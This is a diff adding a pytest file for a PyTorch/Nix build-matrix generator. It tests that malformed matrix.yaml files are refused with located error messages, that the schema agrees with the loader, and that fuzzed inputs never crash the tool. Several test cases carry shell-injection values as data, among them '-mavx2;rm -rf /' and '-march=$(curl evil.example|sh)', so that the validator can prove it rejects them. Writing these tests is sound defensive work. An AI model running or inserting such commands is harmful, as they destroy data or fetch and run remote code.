@@ -1,0 +1,528 @@
+"""Bad matrices: every problem reported at once as `matrix.yaml:LINE:COL: message` with a hint,
+exit code 2, no traceback, and not one file of the tree written, touched or deleted.
+Also: the schema and the loader agree, and random documents never crash gen-matrix."""
+
+from __future__ import annotations
+
+import json
+import re
+import shutil
+import tempfile
+from dataclasses import dataclass
+from pathlib import Path
+
+import jsonschema
+import pytest
+import yaml
+from click.testing import CliRunner
+from hypothesis import HealthCheck, event, given, settings
+from hypothesis import strategies as st
+
+from generator.cli import main
+from generator.knowledge import KNOWLEDGE_FILE
+from generator.schema import SCHEMA_FILE
+
+from conftest import REPO
+
+BASE = 'pytorch: {version: "2.8.0"}\nnixpkgs: {rev: fe5e41d7ffc0421f0913e8472ce6238ed0daf8e3}\n'
+GPU = 'gpu: {python: ["3.13"], cuda: ["12.8"], sm: [sm90], isa: [avx2]}\n'
+CPU = 'cpu: {python: ["3.13"], isa: [avx2]}\n'
+SHIPPED = (REPO / "matrix.yaml").read_text(encoding="utf-8")
+
+
+@dataclass(frozen=True)
+class Case:
+    id: str
+    text: str
+    where: str  # "LINE:COL" (or "LINE") of the first problem
+    words: tuple[str, ...]  # what the message and its hint must say
+    schema: bool = False  # the JSON Schema alone refuses it too
+
+
+CASES = [
+    Case("yaml-syntax", BASE + 'gpu: {python: ["3.13"], cuda: ["12.8"\n', "4:1",
+         ("YAML syntax error", "expected ',' or ']'", "hint: fix the YAML syntax")),
+    Case("yaml-bad-indent", BASE + "cpu:\n  python: [\"3.13\"]\n isa: [avx2]\n", "5:2", ("YAML syntax error",)),
+    Case("empty-file", "", "1:1", ("the file is empty", "start from the shipped matrix.yaml"), schema=True),
+    Case("only-comments", "# nothing here yet\n\n", "1:1", ("the file is empty",), schema=True),
+    Case("top-level-list", "- gpu\n- cpu\n", "1:1", ("the file is a list, not a mapping",), schema=True),
+    Case("top-level-text", "gpu\n", "1:1", ("the file is a string, not a mapping",), schema=True),
+    Case("duplicate-key", BASE + GPU + 'gpu: {python: ["3.12"], cuda: ["12.8"], sm: [sm90], isa: [avx2]}\n', "4:1",
+         ("duplicate key 'gpu' (first written at line 3)", "YAML would silently use only the last")),
+    Case("duplicate-nested-key", BASE + 'cpu:\n  python: ["3.13"]\n  isa: [avx2]\n  python: ["3.12"]\n', "6:3",
+         ("duplicate key 'python' (first written at line 4)",)),
+    Case("unknown-top-level-key", BASE + CPU + "bulid: {jobs: 8}\n", "4:1",
+         ("unknown key 'bulid' at the top level", "did you mean 'build'?"), schema=True),
+    Case("unknown-nested-key", BASE + 'gpu: {pyhton: ["3.13"], cuda: ["12.8"], sm: [sm90], isa: [avx2]}\n', "3:7",
+         ("unknown key 'pyhton' in gpu", "did you mean 'python'?"), schema=True),
+    Case("list-given-as-text", BASE + 'cpu: {python: "3.13", isa: [avx2]}\n', "3:15",
+         ("cpu.python must be a list, not a string",), schema=True),
+    Case("number-given-as-text", BASE + CPU + "build: {jobs: many}\n", "4:15",
+         ("build.jobs must be a whole number, not a string",), schema=True),
+    Case("number-too-large-for-nix", BASE + CPU + "build: {jobs: 99999999999999999999999}\n", "4:15",
+         ("build.jobs must be at most 4096",), schema=True),
+    Case("mapping-given-as-list", BASE + "cpu: [avx2]\n", "3:6", ("cpu must be a mapping, not a list",), schema=True),
+    Case("misspelt-capability-scope",
+         'pytorch: {version: "2.8.0"}\nnixpkgs:\n  rev: fe5e41d7ffc0421f0913e8472ce6238ed0daf8e3\n'
+         "  capability_scope: torhc\n" + CPU, "4:21",
+         ("nixpkgs.capability_scope: 'torhc' is not allowed here", "did you mean 'torch'?"), schema=True),
+    Case("nixpkgs-rev-not-a-commit", 'pytorch: {version: "2.8.0"}\nnixpkgs: {rev: nixos-unstable}\n' + CPU, "2:16",
+         ("nixpkgs.rev: 'nixos-unstable' is not valid", "nixpkgs commit"), schema=True),
+    Case("unknown-sm", BASE + 'gpu: {python: ["3.13"], cuda: ["12.8"], sm: [sm91], isa: [avx2]}\n', "3:46",
+         ("unknown sm 'sm91'", "did you mean 'sm90'?", "knowledge.sm")),
+    Case("unknown-cuda", BASE + 'gpu: {python: ["3.13"], cuda: ["12.88"], sm: [sm90], isa: [avx2]}\n', "3:32",
+         ("unknown cuda '12.88'", "did you mean '12.8'?")),
+    Case("unknown-python", BASE + 'cpu: {python: ["3.133"], isa: [avx2]}\n', "3:16",
+         ("unknown python '3.133'", "did you mean '3.13'?")),
+    Case("unknown-isa", BASE + 'cpu: {python: ["3.13"], isa: [avx-2]}\n', "3:31",
+         ("unknown isa 'avx-2'", "did you mean 'avx2'?")),
+    Case("unknown-value-in-a-rule", BASE + 'cpu:\n  python: ["3.13"]\n  isa: [avx2]\n  exclude:\n    - {isa: avx512f}\n',
+         "7:13", ("unknown isa 'avx512f'", "did you mean 'avx512'?")),
+    Case("include-cuda-too-old-for-sm120",
+         BASE + 'gpu:\n  python: ["3.13"]\n  cuda: ["12.8"]\n  sm: [sm90]\n  isa: [avx2]\n  include:\n'
+         '    - {python: "3.13", cuda: "12.6", sm: sm120, isa: avx2}\n', "9:7",
+         ("gpu.include[0] cannot work", "sm120 (Blackwell consumer) needs CUDA >= 12.8; this asks for 12.6")),
+    Case("include-sm-dropped-by-cuda-13",
+         BASE + 'gpu:\n  python: ["3.13"]\n  cuda: ["13.0"]\n  sm: [sm90]\n  isa: [avx2]\n  include:\n'
+         '    - {python: "3.13", cuda: "13.0", sm: sm61, isa: avx2}\n', "9:7",
+         ("sm61 (Pascal) was dropped after CUDA 12.9; this asks for 13.0",)),
+    Case("include-jetson-with-x86-isa",
+         BASE + 'gpu:\n  python: ["3.13"]\n  cuda: ["13.0"]\n  sm: [sm90]\n  isa: [avx2]\n  include:\n'
+         '    - {python: "3.13", cuda: "13.0", sm: sm110, isa: avx512}\n', "9:7",
+         ("sm110 (Blackwell Thor) is a Jetson part, found only on aarch64 hosts; "
+          "avx512 is an x86_64 instruction set",)),
+    Case("include-gb10-with-x86-isa",
+         BASE + 'gpu:\n  python: ["3.13"]\n  cuda: ["13.0"]\n  sm: [sm90]\n  isa: [avx2]\n  include:\n'
+         '    - {python: "3.13", cuda: "13.0", sm: sm121, isa: avx2}\n', "9:7",
+         ("sm121 (Blackwell GB10) is found only on aarch64 hosts; avx2 is an x86_64 instruction set",)),
+    Case("two-variants-one-name",
+         BASE + 'naming: {cpu: "{package}-python{python}-cuda12_8-sm90-{isa}"}\n' + GPU + CPU, "5:1",
+         ("two variants are both named 'pytorch-python313-cuda12_8-sm90-avx2'",
+          "gpu python 3.13, cuda 12.8, sm sm90, isa avx2", "cpu python 3.13, isa avx2",
+          "make the naming patterns tell them apart")),
+    Case("naming-pattern-not-a-file-name", BASE + 'naming: {cpu: "{package}/python{python}-{isa}"}\n' + CPU, "3:15",
+         ("naming.cpu: '{package}/python{python}-{isa}' does not make a safe file name", "lower-case letters")),
+    Case("naming-pattern-lacks-an-axis", BASE + 'naming: {cpu: "{package}-python{python}"}\n' + CPU, "3:15",
+         ("naming.cpu lacks {isa}, so two variants would get the same name",)),
+    Case("knowledge-row-name-not-a-file-name",
+         BASE + "knowledge:\n  isa:\n    AVX2X: {arch: x86_64, flags: [-mavx2], cpuinfo: [avx2]}\n" + CPU, "5:5",
+         ("knowledge.isa: the name 'AVX2X' is not valid", "lower-case letters"), schema=True),
+    Case("knowledge-row-incomplete",
+         BASE + "knowledge:\n  sm:\n    sm130: {capability: \"13.0\"}\n" + CPU, "5:12",
+         ("new sm row 'sm130' lacks family, min_cuda, hosts",)),
+    Case("expands-to-nothing", BASE + 'gpu: {python: ["3.13"], cuda: ["13.0"], sm: [sm61], isa: [avx2]}\n', "3:1",
+         ("the matrix expands to no variant", "sm61 (Pascal) was dropped after CUDA 12.9", "gen-matrix explain")),
+    Case("no-section", BASE, "1:1", ("the matrix has no gpu:, cpu: or darwin: section",)),
+    Case("shell-in-isa-flag",
+         BASE + 'knowledge:\n  isa:\n    avx2: {flags: ["-mavx2;rm -rf /"]}\n' + CPU, "5:20",
+         ("knowledge.isa.avx2.flags[0]: '-mavx2;rm -rf /' is not valid", "it reaches a shell"), schema=True),
+    Case("command-substitution-in-isa-flag",
+         BASE + "knowledge:\n  isa:\n    avx2: {flags: ['-march=$(curl evil.example|sh)']}\n" + CPU, "5:20",
+         ("is not valid", "it reaches a shell"), schema=True),
+    Case("shell-in-disabled-feature",
+         BASE + 'knowledge:\n  isa:\n    avx2: {disable: ["FBGEMM=0 `reboot`"]}\n' + CPU, "5:22",
+         ("knowledge.isa.avx2.disable[0]", "is not valid", "USE_<X>=0"), schema=True),
+    Case("shell-in-blas", BASE + 'knowledge:\n  accelerator:\n    mps: {blas: "vecLib; id"}\n'
+         'darwin: {python: ["3.13"], accelerator: [mps]}\n', "5:17",
+         ("knowledge.accelerator.mps.blas: 'vecLib; id' is not valid", "BLAS="), schema=True),
+    Case("nul-in-text", BASE + 'description: {cpu: "PyTorch\\0 {isa}"}\n' + CPU, "3:20",
+         ("this text holds a NUL character", "no Nix string can hold")),
+    Case("lone-surrogate", BASE + 'knowledge:\n  sm:\n    sm90: {family: "Hopper \\ud800"}\n' + GPU, "5:20",
+         ("half of a UTF-16 surrogate pair",)),
+    Case("control-character", BASE + CPU + "build: {jobs: 8}\x07\n", "4:17",
+         ("the file holds the character U+0007, which YAML does not allow",)),
+    Case("not-utf8", BASE + CPU + "build: {jobs: 8} # caf\udce9\n", "4:23",
+         ("the byte 0xe9 is not UTF-8 text", "save the file as UTF-8")),
+    Case("alias-contains-itself", BASE + CPU + "build: &loop {jobs: 8, more: *loop}\n", "4:8",
+         ("this alias refers to a value that contains it",)),
+    Case("nested-too-deep", BASE + CPU + "build: " + "[" * 70 + "]" * 70 + "\n", "4:",
+         ("nested more than 64 levels deep",)),
+    Case("formatted-field", BASE + 'description: {cpu: "PyTorch {pytorch!x} for {isa:>9}"}\n' + CPU, "3:20",
+         ("description.cpu: '{pytorch!x}' formats its field", "'{isa:>9}' formats its field",
+          "write the field plainly")),
+]
+
+
+def tree(root: Path) -> dict[str, tuple[bytes, int]]:
+    """Every file under `root` with its bytes and modification time."""
+    return {p.relative_to(root).as_posix(): (p.read_bytes(), p.stat().st_mtime_ns)
+            for p in sorted(root.rglob("*")) if p.is_file()}
+
+
+def write_matrix(root: Path, text: str) -> None:
+    # surrogateescape turns the lone surrogates of a case back into the raw bytes they stand for
+    (root / "matrix.yaml").write_bytes(text.encode("utf-8", "surrogateescape"))
+
+
+@pytest.fixture(scope="module")
+def generated(tmp_path_factory) -> Path:
+    """A repository generated from the shipped matrix: the tree a bad edit must leave alone."""
+    root = tmp_path_factory.mktemp("generated")
+    shutil.copy(REPO / "matrix.yaml", root / "matrix.yaml")
+    result = CliRunner().invoke(main, ["--root", str(root)], catch_exceptions=False)
+    assert result.exit_code == 0, result.output
+    return root
+
+
+@pytest.fixture
+def repository(generated, tmp_path) -> Path:
+    root = tmp_path / "repo"
+    shutil.copytree(generated, root)
+    return root
+
+
+@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
+def test_bad_matrix_is_refused_with_its_location_and_nothing_changes(case, repository, run):
+    write_matrix(repository, case.text)
+    before = tree(repository)
+    result = run("--root", repository)
+    assert result.exit_code == 2, result.output
+    assert "Traceback" not in result.output
+    first = result.stderr.splitlines()[0]
+    assert re.match(rf"error: \S*matrix\.yaml:{case.where}", first), result.stderr
+    for words in case.words:
+        assert words in result.stderr, result.stderr
+    assert "hint: " in result.stderr
+    assert tree(repository) == before
+
+
+def test_every_problem_is_reported_at_once(repository, run):
+    write_matrix(repository, BASE + 'cpu: {pyhton: ["3.13"], isa: avx2}\ncpu: {}\nbuild: {jobs: 0}\n')
+    before = tree(repository)
+    result = run("--root", repository)
+    assert result.exit_code == 2
+    errors = [line for line in result.stderr.splitlines() if line.startswith("error: ")]
+    assert [re.sub(r"^error: \S*matrix\.yaml:", "", line) for line in errors] == [
+        "3:7: unknown key 'pyhton' in cpu",
+        "3:30: cpu.isa must be a list, not a string",
+        "4:1: duplicate key 'cpu' (first written at line 3)",
+        "5:15: build.jobs must be at least 1",
+    ]
+    assert tree(repository) == before
+
+
+def test_every_unknown_value_is_reported_at_once(repository, run):
+    write_matrix(repository, BASE + 'gpu: {python: ["3.31"], cuda: ["12.7"], sm: [sm91, sm9O], isa: [avx3]}\n')
+    result = run("--root", repository)
+    assert result.exit_code == 2
+    assert len([line for line in result.stderr.splitlines() if line.startswith("error: ")]) == 5
+    for value in ("python '3.31'", "cuda '12.7'", "sm 'sm91'", "sm 'sm9O'", "isa 'avx3'"):
+        assert f"unknown {value}" in result.stderr
+
+
+def test_a_missing_matrix_is_refused(tmp_path, run):
+    result = run("--root", tmp_path)
+    assert result.exit_code == 2
+    assert "matrix.yaml: file not found" in result.stderr and "--matrix PATH" in result.stderr
+    assert list(tmp_path.iterdir()) == []
+
+
+def test_an_exclude_that_matches_nothing_is_a_warning_at_its_location(repository, run):
+    # sm61 only has avx and avx2 (the restrict rule), so this rule has nothing left to exclude
+    write_matrix(repository, SHIPPED.replace("      only: {isa: [avx, avx2]}\n",
+                                             "      only: {isa: [avx, avx2]}\n  exclude:\n    - {sm: sm61, isa: avx512}\n"))
+    before = tree(repository)
+    result = run("--root", repository)
+    assert result.exit_code == 0, result.output
+    assert re.search(r"warning: \S*matrix\.yaml:40:7: gpu\.exclude\[0\] matches no variant: sm sm61, isa avx512",
+                     result.stderr), result.stderr
+    assert "hint: remove the rule" in result.stderr
+    assert re.search(r" 0 written, \d+ unchanged, 0 removed", result.stdout), result.stdout
+    assert tree(repository) == before
+
+
+def test_an_sm_that_pairs_with_no_chosen_isa_is_a_warning_at_its_value(project, run):
+    write_matrix(project, BASE + 'gpu: {python: ["3.13"], cuda: ["13.0"], sm: [sm90, sm121], isa: [avx2, avx512]}\n')
+    result = run("--root", project)
+    assert result.exit_code == 0, result.output
+    assert re.search(r"warning: \S*matrix\.yaml:3:52: gpu\.sm sm121 yields no variant: sm121 \(Blackwell GB10\) "
+                     r"is found only on aarch64 hosts; avx2 is an x86_64 instruction set", result.stderr), result.stderr
+    assert "gen-matrix explain --sm sm121" in result.stderr
+    assert sorted(p.name for p in (project / ".flox/pkgs").iterdir()) == [
+        "pytorch-python313-cuda13_0-sm90-avx2.nix", "pytorch-python313-cuda13_0-sm90-avx512.nix"]
+
+
+def test_a_cuda_that_suits_no_chosen_sm_is_a_warning(project, run):
+    write_matrix(project, BASE + 'gpu: {python: ["3.13"], cuda: ["12.8", "13.0"], sm: [sm61], isa: [avx2]}\n')
+    result = run("--root", project)
+    assert result.exit_code == 0
+    assert re.search(r"matrix\.yaml:3:40: gpu\.cuda 13\.0 yields no variant: sm61 \(Pascal\) was dropped after "
+                     r"CUDA 12\.9", result.stderr), result.stderr
+
+
+def test_the_shipped_matrix_has_no_warning(run):
+    result = run("check", "--root", REPO)
+    assert result.exit_code == 0 and result.stderr == ""
+
+
+def test_versions_written_as_numbers_still_work(project, run):
+    write_matrix(project, BASE + "knowledge:\n  sm:\n    sm130: {capability: \"13.0\", family: Next, min_cuda: 13.1, "
+                 "max_cuda: 14, hosts: [x86_64]}\n"
+                 "gpu: {python: [3.13], cuda: [13.0, 13.1], sm: [sm130], isa: [avx2]}\n")
+    result = run("--root", project)
+    assert result.exit_code == 0, result.output
+    assert [p.name for p in (project / ".flox/pkgs").iterdir()] == ["pytorch-python313-cuda13_1-sm130-avx2.nix"]
+
+
+# --- (2) the JSON Schema and the loader agree ---------------------------------------------
+
+def schema_errors(text: str) -> list[str]:
+    """What the JSON Schema alone, as an editor applies it, finds wrong with `text`."""
+    schema = json.loads(SCHEMA_FILE.read_text(encoding="utf-8"))
+    validator = jsonschema.Draft202012Validator(schema)
+    return [error.message for error in validator.iter_errors(yaml.safe_load(text))]
+
+
+def test_shipped_matrix_and_knowledge_table_pass_the_schema_and_the_loader(run):
+    assert schema_errors(SHIPPED) == []
+    shipped = yaml.safe_load(SHIPPED)
+    knowledge = yaml.safe_load(KNOWLEDGE_FILE.read_text(encoding="utf-8"))
+    assert schema_errors(yaml.safe_dump(dict(shipped, knowledge=knowledge))) == []
+    assert run("check", "--root", REPO).exit_code == 0
+
+
+def test_shipped_matrix_points_editors_at_the_schema():
+    first = SHIPPED.splitlines()[0]
+    assert first == "# yaml-language-server: $schema=generator/matrix.schema.json"
+    assert (REPO / "generator/matrix.schema.json").samefile(SCHEMA_FILE)
+
+
+EVERY_KEY = """\
+pytorch: {version: "2.8.0", source: {rev: v2.8.0, hash: "sha256-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA="}}
+nixpkgs: {rev: fe5e41d7ffc0421f0913e8472ce6238ed0daf8e3, sha256: null, capability_scope: nixpkgs,
+          patches: {magma: [{url: "https://example.org/magma.patch", hash: "sha256-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA="}]},
+          config: {cudaForwardCompat: false}}
+build: {jobs: 4, system_features: [big-parallel, kvm]}
+naming: {gpu: "t-{python}-{cuda}-{sm}-{isa}-{package}", cpu: "t-{python}-{isa}-{package}",
+         darwin: "t-{python}-{accelerator}-{package}"}
+description: {gpu: "{pytorch} {family} {gpus} {capability}", cpu: "{cpus}", darwin: "{accelerator}",
+              companion: "{package} {torch} {torch_description}"}
+ci:
+  organisation_variable: FLOX_ORG
+  organisation: my-org
+  main_branch: main
+  timeout_minutes: 60
+  shard_size: 100
+  plan_runner: [ubuntu-latest]
+  runners: {x86_64-linux: [big], aarch64-linux: [arm], x86_64-darwin: [mac13], aarch64-darwin: [mac]}
+  gpu_runners: [{labels: [self-hosted, gpu], system: x86_64-linux, sm: [sm90]}]
+companions:
+  - {packages: [torchvision, torchaudio], when: {kind: gpu, sm: sm90}}
+gpu:
+  python: ["3.13"]
+  cuda: ["12.8"]
+  sm: [sm90, sm130]
+  isa: [avx2, avx10]
+  restrict:
+    - {when: {sm: sm130}, only: {isa: [avx10]}}
+  exclude:
+    - {sm: sm90, isa: avx10, python: ["3.13"], cuda: "12.8"}
+  include:
+    - {python: "3.12", cuda: "12.8", sm: sm90, isa: avx2}
+cpu:
+  python: ["3.13"]
+  isa: [avx10]
+  restrict: [{when: {isa: avx10}, only: {python: "3.13"}}]
+  exclude: [{python: "3.13", isa: avx2}]
+  include: [{python: "3.12", isa: avx2}]
+darwin:
+  python: ["3.13"]
+  accelerator: [mps, metal2]
+  restrict: [{when: {accelerator: metal2}, only: {python: ["3.13"]}}]
+  exclude: [{accelerator: metal2, python: "3.12"}]
+  include: [{python: "3.12", accelerator: mps}]
+knowledge:
+  sm:
+    sm130: {capability: "13.0", family: Next, min_cuda: "12.8", max_cuda: null, jetson: false,
+            hosts: [x86_64], cudnn: true, gpus: [Example]}
+  cuda:
+    "12.8": {driver: "570.26", capabilities: ["9.0"]}
+  python:
+    "3.12": {}
+  isa:
+    avx10: {arch: x86_64, flags: [-mavx10.1], msvc: /arch:AVX10, cpuinfo: [avx10], disable: [NNPACK], cpus: [Next],
+            rank: 60}
+  accelerator:
+    metal2: {arch: aarch64, blas: vecLib, description: Metal 2}
+"""
+
+
+def test_a_matrix_with_every_key_of_the_schema_passes_both(project, run):
+    keys = set()
+
+    def collect(schema):
+        if isinstance(schema, dict):
+            keys.update(schema.get("properties", {}))
+            for value in schema.values():
+                collect(value)
+        elif isinstance(schema, list):
+            for value in schema:
+                collect(value)
+
+    collect(json.loads(SCHEMA_FILE.read_text(encoding="utf-8")))
+    used = set()
+
+    def walk(value):
+        if isinstance(value, dict):
+            used.update(value)
+            for child in value.values():
+                walk(child)
+        elif isinstance(value, list):
+            for child in value:
+                walk(child)
+
+    walk(yaml.safe_load(EVERY_KEY))
+    assert keys <= used, f"keys of the schema this test does not try: {sorted(keys - used)}"
+    assert schema_errors(EVERY_KEY) == []
+    write_matrix(project, EVERY_KEY)
+    result = run("--root", project)
+    assert result.exit_code == 0, result.output
+
+
+@pytest.mark.parametrize("case", [c for c in CASES if c.schema], ids=[c.id for c in CASES if c.schema])
+def test_what_the_schema_refuses_the_loader_refuses(case, tmp_path, run):
+    assert schema_errors(case.text), "the schema accepts it: editors would not warn"
+    write_matrix(tmp_path, case.text)
+    assert run("--root", tmp_path).exit_code == 2
+
+
+# --- (6) random documents: a clean run or a located error, never a traceback -------------
+
+LOCATED = re.compile(r"^(error|warning): \S*matrix\.yaml:\d+(:\d+)?: \S")
+
+
+def assert_clean_run(text: str) -> None:
+    with tempfile.TemporaryDirectory() as folder:
+        root = Path(folder)
+        write_matrix(root, text)
+        result = CliRunner().invoke(main, ["--root", str(root)], catch_exceptions=True)
+        assert result.exception is None or isinstance(result.exception, SystemExit), (
+            f"{type(result.exception).__name__}: {result.exception}\n--- matrix.yaml ---\n{text}")
+        assert result.exit_code in (0, 2), result.output
+        event(f"exit {result.exit_code}")  # --hypothesis-show-statistics: how many documents were valid
+        for line in result.stderr.splitlines():
+            if not line.startswith("  "):
+                assert LOCATED.match(line), f"{line!r}\n--- matrix.yaml ---\n{text}"
+        if result.exit_code == 2:
+            assert result.stderr.startswith("error: ")
+            assert sorted(p.name for p in root.iterdir()) == ["matrix.yaml"]
+
+
+def _schema_words() -> list[str]:
+    words = set()
+
+    def collect(schema):
+        if isinstance(schema, dict):
+            words.update(schema.get("properties", {}))
+            words.update(str(v) for v in schema.get("enum", []))
+            for value in schema.values():
+                collect(value)
+        elif isinstance(schema, list):
+            for value in schema:
+                collect(value)
+
+    collect(json.loads(SCHEMA_FILE.read_text(encoding="utf-8")))
+    knowledge = yaml.safe_load(KNOWLEDGE_FILE.read_text(encoding="utf-8"))
+    for table in knowledge.values():
+        words.update(str(name) for name in table)
+    return sorted(words)
+
+
+WORDS = _schema_words()
+TOKENS = WORDS + [":", " ", "-", "- ", "[", "]", "{", "}", ",", '"', "'", "#", "&a", "*a", "!!str", "|", ">",
+                  "\n", "\n  ", "\t", "\\", "{python}", "{isa}", "null", "true", "0", "3.10", "12.8", "-mavx2",
+                  "\x00", "\x07", "\u00e9", "\ufeff", "!r", "!x", ":>3", ":d", "&b [*b]", "*b"]
+
+
+# The shipped matrix, with the keys it leaves at their defaults written out, so that
+# mutations reach them too.
+MUTABLE = SHIPPED + """
+description:
+  gpu: "PyTorch {pytorch} for NVIDIA {family} GPUs ({sm}, {gpus}) and {isa} CPUs, CUDA {cuda}"
+  cpu: "PyTorch {pytorch}, CPU only, for {isa} CPUs ({cpus})"
+  darwin: "PyTorch {pytorch} for Apple Silicon with {accelerator}"
+knowledge:
+  sm:
+    sm130: {capability: "13.0", family: Next, min_cuda: "13.1", hosts: [x86_64], gpus: [Example]}
+  isa:
+    avx10: {arch: x86_64, flags: [-mavx10.1], cpuinfo: [avx10], disable: [NNPACK]}
+"""
+
+
+@st.composite
+def mutated_matrix(draw) -> str:
+    """The shipped matrix with a few lines deleted, duplicated or moved, or tokens put in."""
+    lines = MUTABLE.splitlines(keepends=True)
+    for _ in range(draw(st.integers(1, 4))):
+        op = draw(st.sampled_from(["delete", "duplicate", "move", "insert", "replace"]))
+        i = draw(st.integers(0, len(lines) - 1))
+        if op == "delete" and len(lines) > 1:
+            del lines[i]
+        elif op == "duplicate":
+            lines.insert(i, lines[i])
+        elif op == "move":
+            lines.insert(draw(st.integers(0, len(lines) - 1)), lines.pop(i))
+        else:
+            line = lines[i]
+            at = draw(st.integers(0, len(line)))
+            end = at if op == "insert" else draw(st.integers(at, len(line)))
+            lines[i] = line[:at] + draw(st.sampled_from(TOKENS)) + line[end:]
+    return "".join(lines)
+
+
+SCALARS = st.one_of(st.sampled_from(WORDS), st.sampled_from(["3.13", "12.8", "13.0", "sm90", "avx2", "x"]),
+                    st.integers(-2, 40), st.booleans(), st.none(), st.text(max_size=8))
+
+
+PATTERNS = st.lists(st.sampled_from(["{package}", "{python}", "{cuda}", "{sm}", "{isa}", "{accelerator}",
+                                      "{pytorch}", "{family}", "{gpus}", "{cpus}", "{capability}", "{", "}",
+                                      "{}", "{python!r}", "{isa:d}", "{sm!x}", "{cuda:>4}", "!r", ":d", "-", "x", "/", "..", " ", "\\", '"', "${"]),
+                     max_size=8).map("".join)
+
+
+def structures() -> st.SearchStrategy:
+    keys = st.sampled_from(WORDS)
+    return st.recursive(SCALARS, lambda inner: st.one_of(st.lists(inner, max_size=4),
+                                                          st.dictionaries(keys, inner, max_size=4)), max_leaves=25)
+
+
+AXIS_VALUES = {
+    "python": ["3.12", "3.13"],
+    "cuda": ["12.6", "12.8", "13.0"],
+    "sm": ["sm61", "sm90", "sm110", "sm120", "sm121"],
+    "isa": ["avx", "avx2", "armv9"],
+    "accelerator": ["mps"],
+}
+SECTION_AXES = {"gpu": ("python", "cuda", "sm", "isa"), "cpu": ("python", "isa"), "darwin": ("python", "accelerator")}
+
+
+@st.composite
+def built_matrix(draw) -> str:
+    """A document shaped like a matrix: sections with real values, name and description
+    patterns, and now and then a random structure built from the schema's words where a
+    section, a rule or a top-level key goes."""
+    document = {"pytorch": {"version": "2.8.0"}, "nixpkgs": {"rev": "fe5e41d7ffc0421f0913e8472ce6238ed0daf8e3"}}
+    for kind in draw(st.sets(st.sampled_from(sorted(SECTION_AXES)), min_size=1)):
+        document[kind] = {axis: draw(st.lists(st.sampled_from(AXIS_VALUES[axis]), min_size=1, max_size=3, unique=True))
+                          for axis in SECTION_AXES[kind]}
+    for key in draw(st.sets(st.sampled_from(["naming", "description"]))):
+        document[key] = {kind: draw(PATTERNS) for kind in draw(st.sets(st.sampled_from(sorted(SECTION_AXES))))}
+    if draw(st.integers(0, 2)) == 0:
+        document[draw(st.sampled_from(WORDS))] = draw(structures())
+    if draw(st.integers(0, 2)) == 0:
+        kind = draw(st.sampled_from(sorted(SECTION_AXES)))
+        if isinstance(document.get(kind), dict):
+            document[kind][draw(st.sampled_from(["restrict", "include", "exclude"]))] = draw(structures())
+    return yaml.safe_dump(document, sort_keys=False, allow_unicode=True)
+
+
+@settings(max_examples=250, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(mutated_matrix())
+def test_fuzz_mutated_matrix_runs_cleanly_or_fails_located(text):
+    assert_clean_run(text)
+
+
+@settings(max_examples=350, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(built_matrix())
+def test_fuzz_built_matrix_runs_cleanly_or_fails_located(text):
+    assert_clean_run(text)
